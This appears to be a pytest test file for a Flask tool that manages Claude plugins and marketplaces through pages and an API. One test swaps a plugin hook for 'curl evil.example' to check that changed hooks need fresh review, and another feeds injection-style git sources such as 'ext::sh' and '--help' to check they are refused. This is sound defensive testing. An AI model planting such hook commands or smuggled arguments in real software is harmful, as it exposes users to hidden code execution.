"""Plugins: shown with what they bring, installed and switched; the real CLI is the witness."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from opcode_htmx.features.claude_plugins.cli import PluginCli
from opcode_htmx.features.context import AppContext
from opcode_htmx.sessions.configuration.acts import ActFailed
from tests.support.apps.in_process import app_of, client_of
from tests.support.apps.local_server import plugins_listed_once
from tests.support.cli.supervision import until
from tests.support.environment import Sandbox
from tests.support.outside import marketplace
from tests.support.outside.marketplace import NAME, PLUGIN
from tests.support.pages import dom
from tests.support.pages.claude_pages import outcome_of

pytestmark = pytest.mark.timeout(180)

PAGE = f"/claude/plugins/of/{PLUGIN}"


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    return Sandbox(tmp_path_factory.mktemp("plugins") / "home").make()


@pytest.fixture(scope="module")
def folder(sandbox: Sandbox) -> Path:
    return marketplace.make(sandbox.home / "market")


@pytest.fixture(scope="module")
def app(sandbox: Sandbox, claude: Path) -> Iterator[Flask]:
    with app_of(sandbox, claude) as made, plugins_listed_once(sandbox, "market*"):
        context: AppContext = made.extensions["opcode_context"]
        context.runs.project_trust.accept(sandbox.project)
        yield made


@pytest.fixture(scope="module")
def offered(app: Flask, folder: Path) -> Iterator[Path]:
    """A marketplace's folder. It is added on the page, and in the end updated and removed."""
    client = client_of(app)
    assert "add one to choose from" in client.get("/claude/plugins").text
    added = client.post("/claude/plugins/marketplaces", data={"source": str(folder)})
    assert "The marketplace “orchard” is added." in finished(client, added)
    listed = {"name": NAME, "source": str(folder), "available": 2}
    assert api(client, "GET", "/marketplaces") == (200, [listed])
    yield folder
    market = f"/marketplaces/{NAME}"
    assert "updated" in ended(client, api(client, "POST", f"{market}/update", {}))
    assert "removed" in ended(client, api(client, "DELETE", market))
    assert api(client, "GET", "/marketplaces") == (200, [])


def states(client: FlaskClient, **project: str) -> dict[str, bool]:
    """Whether it is enabled in the scopes for which it is installed, as the CLI lists it."""
    _, found = api(client, "GET", "", **project)
    here = [each for plugin in found if plugin["id"] == PLUGIN for each in plugin["installed"]]
    return {each["scope"]: each["is_enabled"] for each in here}


def switched(sandbox: Sandbox, scope: str = "user") -> bool | None:
    """Whether it is enabled in the file of a scope, from which the CLI has it; None: neither."""
    files = {
        "user": sandbox.config_dir / "settings.json",
        "local": sandbox.project / ".claude/settings.local.json",
    }
    found = json.loads(files[scope].read_text()) if files[scope].exists() else {}
    is_on: bool | None = found.get("enabledPlugins", {}).get(PLUGIN)
    return is_on


def finished(client: FlaskClient, answer: TestResponse) -> str:
    """What the person reads once an act has had its outcome: an error, or the notice."""
    assert answer.status_code == 303, dom.parse(answer.text).text
    address = answer.location

    def outcome() -> TestResponse | None:
        page = client.get(address)
        return None if "Refresh" in page.headers else page

    page = until(outcome, "the act has an outcome")
    assert page is not None
    if page.status_code == 303:
        return unquote(unquote(page.headers["Set-Cookie"]))
    return " ".join(dom.parse(page.text).text.split())


def digest(page: str) -> str:
    found = [e for e in dom.parse(page).walk() if e.attributes.get("name") == "digest"]
    return found[0].attributes["value"] or ""


def act(client: FlaskClient, verb: str, scope: str = "user", **fields: str) -> TestResponse:
    return client.post(f"{PAGE}/{verb}", data={"scope": scope, **fields})


def test_a_plugin_is_shown_installed_disabled_enabled_and_removed_as_the_cli_says(
    client: FlaskClient, sandbox: Sandbox, offered: Path
) -> None:
    assert "Greets people" in client.get("/claude/plugins?q=greet").text
    assert "No plugin has these words" in client.get("/claude/plugins?q=nothing-like-it").text
    before = client.get(PAGE).text
    shown = " ".join(dom.parse(before).text.split())
    for part in ("PreToolUse (Bash)", "true", "echo", "cat", "hello", "waver", "wave", "Wave well"):
        assert part in shown, "what it brings is shown before it is installed"
    assert "t0p-secret" not in before
    assert switched(sandbox) is None

    page = finished(client, act(client, "install", digest=digest(before)))
    assert "“greeter” is installed." in page
    assert states(client) == {"user": True}
    assert "tokens to every session" in client.get(PAGE).text
    assert "On · orchard · 1.0.0" in client.get("/claude/plugins").text

    finished(client, act(client, "disable"))
    assert states(client) == {"user": False}
    assert switched(sandbox) is False

    hook = offered / "plugins/greeter/hooks/hooks.json"
    old = client.get(PAGE).text
    hook.write_text(hook.read_text().replace('"true"', '"curl evil.example"'))
    answer = act(client, "enable", digest=digest(old))
    assert answer.status_code == 409
    assert "curl evil.example" in answer.text
    assert switched(sandbox) is False, "nobody was shown what it brings now"
    finished(client, act(client, "enable", digest=digest(answer.text)))
    assert switched(sandbox) is True

    where = {"folder": str(sandbox.project)}
    seen = client.get(PAGE, query_string=where).text
    finished(client, act(client, "install", "local", digest=digest(seen), **where))
    in_project = states(client, project_path=str(sandbox.project))
    assert in_project == {"user": True, "local": True}
    is_described_by_the_api(client, str(sandbox.project))
    assert switched(sandbox, "local") is True

    assert "latest version" in finished(client, act(client, "update"))
    finished(client, act(client, "uninstall"))
    assert states(client, project_path=str(sandbox.project)) == {"local": True}
    removed = finished(client, act(client, "uninstall", "local", **where))
    assert "“greeter” is removed." in removed
    assert states(client, project_path=str(sandbox.project)) == {}


def is_described_by_the_api(client: FlaskClient, project_path: str) -> None:
    """The plugin, installed and enabled for the user and in the project."""
    _, (here,) = api(client, "GET", "/installed", project_path=project_path)
    scopes = {each["scope"]: each["is_enabled"] for each in here["installed"]}
    assert scopes == {"user": True, "local": True}
    assert here["tokens"].strip("~").isdigit()
    assert any(part["tokens_always"] for part in here["contents"]["parts"])


def test_what_the_cli_refuses_is_said_in_its_words(client: FlaskClient) -> None:
    begun = api(client, "POST", "/marketplaces", {"source": "/nowhere/at-all"})
    assert re.fullmatch("failed: .*does not exist.*", ended(client, begun))


@pytest.mark.parametrize(
    "source",
    ["", "--help", "-x/y", "file:///etc", "ext::sh", "https://me:secret@git.example/x.git", "a b"],
)
def test_a_source_that_git_should_not_get_is_refused_with_the_words_kept(
    client: FlaskClient, source: str
) -> None:
    answer = client.post("/claude/plugins/marketplaces", data={"source": source})
    assert answer.status_code == 422
    field = next(e for e in dom.parse(answer.text).walk() if e.attributes.get("name") == "source")
    assert field.attributes["value"] == source


def test_a_plugin_that_is_not_known_is_not_installed(client: FlaskClient) -> None:
    assert client.get("/claude/plugins/of/nope@nowhere").status_code == 404
    assert client.get("/claude/plugins/of/--help").status_code == 404
    answer = client.post("/claude/plugins/of/--help/install", data={"scope": "user"})
    assert answer.status_code in (404, 422)


def api(client: FlaskClient, method: str, path: str, body: object = None, **query: str) -> Any:
    """The status of the answer, and its data or its sentence."""
    address = f"/api/plugins{path}"
    answer = client.open(address, method=method, json=body, query_string=query)
    assert "t0p-secret" not in answer.text
    return outcome_of(answer)


def ended(client: FlaskClient, answer: tuple[int, Any]) -> str:
    """The outcome of an act that the API has begun, with its state."""
    status, act = answer
    assert status == 202, act

    def outcome() -> Any:
        found = client.get(f"/api/acts/{act['id']}").get_json()["data"]
        return None if found["state"] == "running" else found

    found = until(outcome, "the act has an outcome")
    assert found is not None
    return f"{found['state']}: {found['message']}"


VERBS = ("install", "enable", "disable", "update")


def asked_of_the_cli(
    client: FlaskClient, where: dict[str, str], digest: str
) -> list[tuple[object, ...]]:
    """In which folder and for what acts of the API run the CLI, which does them for the pages."""
    asked = list[tuple[object, ...]]()

    def act(_: PluginCli, folder: Path | None, *arguments: str) -> dict[str, str]:
        asked.append((folder, *(each for each in arguments if each != "--json")))
        if "uninstall" in arguments:
            raise ActFailed("It is not installed.")
        return {"message": "It is done."}

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(PluginCli, "act", act)
        for verb in VERBS:
            seen = {"digest": digest} if verb in ("install", "enable") else {}
            begun = api(client, "POST", f"/of/{PLUGIN}/{verb}", {**where, **seen})
            assert ended(client, begun).startswith("done: ")
        begun = api(client, "DELETE", f"/of/{PLUGIN}", **where)
        assert ended(client, begun) == "failed: It is not installed."
        for begun in (
            api(client, "POST", "/marketplaces", {"source": "someone/market"}),
            api(client, "POST", f"/marketplaces/{NAME}/update", {}),
            api(client, "DELETE", f"/marketplaces/{NAME}"),
        ):
            assert ended(client, begun).startswith("done: ")
    return asked


def test_api_shows_what_the_cli_offers_and_begins_the_acts_of_the_pages(
    client: FlaskClient, sandbox: Sandbox, offered: Path
) -> None:
    marketplace.make(offered)  # as at first
    status, found = api(client, "GET", "", q="greet")
    assert (status, [(e["id"], e["installed"]) for e in found]) == (200, [(PLUGIN, [])])
    assert api(client, "GET", "/installed") == (200, [])
    _, plugin = api(client, "GET", f"/of/{PLUGIN}")
    parts = {(e["kind"], e["name"]): e for e in plugin["contents"]["parts"]}
    assert parts["hook", "PreToolUse (Bash)"]["text"] == "true"
    assert {e["name"] for e in plugin["contents"]["parts"] if e["runs"]} == {
        "PreToolUse (Bash)",
        "echo",
    }
    assert ("command", "hello") in parts

    status, sentence = api(client, "POST", f"/of/{PLUGIN}/install", {"scope": "user"})
    assert (status, "Look again" in sentence) == (409, True)
    assert api(client, "POST", f"/of/{PLUGIN}/install", {"scope": "local"})[0] == 422
    assert api(client, "GET", "/installed") == (200, [])
    assert switched(sandbox) is None
    where = {"scope": "local", "project_path": str(sandbox.project)}
    assert asked_of_the_cli(client, where, plugin["digest"]) == [
        *(
            (sandbox.project, verb, "--scope", "local", "--", PLUGIN)
            for verb in (*VERBS, "uninstall")
        ),
        (None, "marketplace", "add", "--", "someone/market"),
        (None, "marketplace", "update", "--", NAME),
        (None, "marketplace", "remove", "--", NAME),
    ]


def test_api_refuses_what_is_not_known_or_should_not_reach_git(client: FlaskClient) -> None:
    seen = {"scope": "user", "digest": ""}
    assert api(client, "GET", "/of/nope@nowhere")[0] == 404
    assert api(client, "GET", "/of/--help")[0] == 404
    assert api(client, "POST", "/of/nope@nowhere/install", seen)[0] == 404
    assert api(client, "POST", "/marketplaces/nowhere/update", {})[0] == 404
    assert api(client, "DELETE", "/marketplaces/--help")[0] == 404
    status, sentence = api(client, "POST", "/marketplaces", {"source": "--help"})
    assert (status, sentence) == (422, "A source does not begin with a dash.")
    assert api(client, "GET", "", project_path="/")[0] == 422
    assert api(client, "GET", "", project_id="-nowhere")[0] == 404
    assert client.get(f"/api/acts/{'0' * 32}").status_code == 404
